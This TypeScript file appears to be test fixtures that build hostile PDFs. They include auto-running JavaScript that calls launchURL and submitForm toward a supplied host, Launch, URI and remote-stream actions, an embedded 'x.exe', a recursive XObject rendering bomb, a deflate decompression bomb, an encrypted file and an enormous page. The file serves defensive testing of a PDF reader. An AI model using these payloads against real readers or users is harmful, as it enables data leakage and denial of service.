// PDFs that do harm to whoever opens them, or would if they could: made here from their objects, so that one can read what is in them.
import { deflateSync } from 'node:zlib'

/** The first object is the catalogue. `more`: of the trailer. */
export function paper(objects: readonly (string | Buffer)[], more = ''): Buffer {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n')]
  let length = pieces[0]?.length ?? 0
  const add = (piece: Buffer) => {
    pieces.push(piece)
    length += piece.length
  }
  const places = objects.map((object, place) => {
    const here = length
    add(Buffer.concat([Buffer.from(`${place + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]))
    return here
  })
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const trailer = `trailer<</Size ${size}/Root 1 0 R${more}>>\nstartxref\n${length}\n%%EOF`
  add(Buffer.from(`xref\n0 ${size}\n0000000000 65535 f \n${table}${trailer}`))
  return Buffer.concat(pieces)
}

const stream = (content: string, more = '') =>
  `<</Length ${content.length}${more}>>\nstream\n${content}\nendstream`

const words = 'BT /F1 40 Tf 20 100 Td (Page with a trap) Tj ET'
const page = (more = '') =>
  `<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>${more}>>`
const font = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
const pages = '<</Type/Pages/Kids[3 0 R]/Count 1>>'

/** A script when it is opened and one on its page, addresses to press, to load, to send to; a file in it; a stream from outside. */
export function callingPaper(at: string): Buffer {
  const js = `<</S/JavaScript/JS(app.launchURL\\("${at}/pdf-js"\\);this.submitForm\\("${at}/pdf-submit"\\))>>`
  const press = (action: string) =>
    `<</Type/Annot/Subtype/Link/Rect[0 0 400 200]/A<<${action}>>/AA<</PV ${js}/E ${js}>>>>`
  return paper([
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${js}/AA<</WC ${js}>>/URI<</Base(${at}/)>>/Names<</JavaScript<</Names[(a)${js}]>>/EmbeddedFiles<</Names[(x.exe)<</Type/Filespec/F(x.exe)/EF<</F 7 0 R>>>>]>>>>>>`,
    pages,
    page(
      `/AA<</O ${js}>>/Annots[${press(`/S/URI/URI(${at}/pdf-uri)`)}${press(`/S/Launch/F(${at}/pdf-launch)`)}${press(`/S/GoToR/F<</FS/URL/F(${at}/pdf-gotor)>>/D[0/Fit]`)}]`,
    ).replace('/Contents 4 0 R', '/Contents[4 0 R 6 0 R]'),
    stream(words),
    font,
    stream('', `/F<</FS/URL/F(${at}/pdf-stream)>>`),
    stream('MZ', '/Type/EmbeddedFile'),
  ])
}

/** Each of its parts draws the next one many times: nobody could ever draw all of it. */
export function multiplyingPaper(): Buffer {
  const depth = 9
  const parts = Array.from({ length: depth }, (_one, place) =>
    stream(
      place === depth - 1 ? '0 0 9 9 re f '.repeat(9) : '/X Do '.repeat(99),
      `/Type/XObject/Subtype/Form/BBox[0 0 400 200]${place === depth - 1 ? '' : `/Resources<</XObject<</X ${place + 7} 0 R>>>>`}`,
    ),
  )
  return paper([
    '<</Type/Catalog/Pages 2 0 R>>',
    pages,
    page().replace('/Font', '/XObject<</X 6 0 R>>/Font'),
    stream('/X Do'),
    font,
    ...parts,
  ])
}

/** Its page is some hundred megabytes of blanks in a hundredth of it, and behind them its words. Ten megabytes could be ten gigabytes. */
export function swellingPaper(): Buffer {
  const packed = deflateSync(Buffer.concat([Buffer.alloc(300_000_000, ' '), Buffer.from(words)]), {
    level: 1,
  })
  const head = `<</Length ${packed.length}/Filter/FlateDecode>>\nstream\n`
  return paper([
    '<</Type/Catalog/Pages 2 0 R>>',
    pages,
    page(),
    Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream')]),
    font,
  ])
}

/** Behind a password that nobody has. */
export const lockedPaper = (): Buffer =>
  paper(
    ['<</Type/Catalog/Pages 2 0 R>>', pages, page(), stream(words), font],
    `/ID[<00><00>]/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O<${'ab'.repeat(32)}>/U<${'cd'.repeat(32)}>>>`,
  )

/** More pages than anybody is shown, one of them miles wide. */
export function longPaper(count: number): Buffer {
  const kids = Array.from({ length: count }, (_one, place) => `${place + 5} 0 R`).join(' ')
  const one = (box: string) =>
    `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 3 0 R/Resources<</Font<</F1 4 0 R>>>>>>`
  return paper([
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Kids[${kids}]/Count ${count}>>`,
    stream(words),
    font,
    ...Array.from({ length: count }, (_one, place) => one(place === 1 ? '0 0 14400000 3' : '0 0 400 200')),
  ])
}
